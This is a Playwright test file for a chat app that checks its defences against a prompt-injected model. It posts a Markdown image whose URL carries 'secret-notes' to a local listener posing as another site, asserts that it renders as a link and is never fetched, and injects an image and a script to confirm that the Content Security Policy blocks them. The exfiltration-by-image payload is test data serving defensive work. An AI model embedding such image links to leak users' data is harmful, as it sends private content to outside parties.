// The page's defences against a prompt-injected model: a Markdown image pointing elsewhere is
// shown as a link and never fetched (a local listener counts what reaches it), and the app runs
// under its Content Security Policy without a single violation.
import { Page, expect, test } from "@playwright/test";
import { Server, createServer } from "node:http";
import { AddressInfo } from "node:net";
import { signUp } from "./accounts";
import { JarvisServer } from "./server";

let server: JarvisServer;
let listener: Server;
let listenerUrl: string;
/** Every request that reached the listener ("another site"). */
const hits: string[] = [];

test.beforeAll(async () => {
  listener = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "content-type": "image/gif" });
    response.end(Buffer.from("R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "base64"));
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await JarvisServer.launch();
});

test.afterAll(async () => {
  await server?.dispose();
  await new Promise((resolve) => listener?.close(resolve));
});

/** Collects CSP violations: Chromium's console reports and the DOM's events. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  const logged: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) logged.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return async () => [
    ...logged,
    ...(await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? [])),
  ];
}

function lastReply(page: Page) {
  return page.locator('article[data-role="assistant"]').last();
}

test("a Markdown image pointing elsewhere is a link, never fetched, and the app runs under its CSP", async ({ page }) => {
  const violations = await watchViolations(page);
  await signUp(page.request, server.baseUrl);
  const response = await page.goto(`${server.baseUrl}/app`);
  const csp = response?.headers()["content-security-policy"] ?? "";
  expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9_-]{22,}' 'wasm-unsafe-eval'/);
  expect(csp).toContain("img-src 'self' data: blob:");
  // Hydrated, and the WebSocket is allowed: the app says it is connected.
  await expect(page.getByRole("status").filter({ hasText: /^Online$/ })).toBeVisible();

  // The fake model answers "Hello! You said: <message>", so the reply holds the image.
  const image = `${listenerUrl}/pixel.gif?d=secret-notes`;
  await page.getByLabel("Message").fill(`Here: ![tracker](${image}) thanks`);
  await page.getByLabel("Message").press("Enter");
  const reply = lastReply(page);
  const link = reply.getByRole("link", { name: /tracker/ });
  await expect(link).toHaveAttribute("href", image);
  await expect(link).toContainText(image);
  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
  await expect(reply.locator("img")).toHaveCount(0);

  // And again as history, rendered on the server and hydrated.
  await page.reload();
  await expect(lastReply(page).getByRole("link", { name: /tracker/ })).toHaveAttribute("href", image);
  await expect(lastReply(page).locator("img")).toHaveCount(0);
  await expect(page.getByRole("status").filter({ hasText: /^Online$/ })).toBeVisible();

  await page.waitForTimeout(500);
  expect(hits).toEqual([]);
  expect(await violations()).toEqual([]);
});

test("the CSP itself refuses an image from elsewhere and a script without the nonce", async ({ page }) => {
  const violations = await watchViolations(page);
  await signUp(page.request, server.baseUrl);
  await page.goto(`${server.baseUrl}/app`);
  await expect(page.getByRole("status").filter({ hasText: /^Online$/ })).toBeVisible();
  expect(await violations()).toEqual([]);

  // Whatever slipped past the renderer: neither loads nor runs.
  await page.evaluate((url) => {
    const img = document.createElement("img");
    img.src = `${url}/injected.gif`;
    document.body.append(img);
    const script = document.createElement("script");
    script.textContent = "window.__injected = true;";
    document.body.append(script);
  }, listenerUrl);
  await expect.poll(violations).toEqual(
    expect.arrayContaining([expect.stringContaining("img-src"), expect.stringContaining("script-src")]),
  );
  expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
  await page.waitForTimeout(300);
  expect(hits).toEqual([]);
});
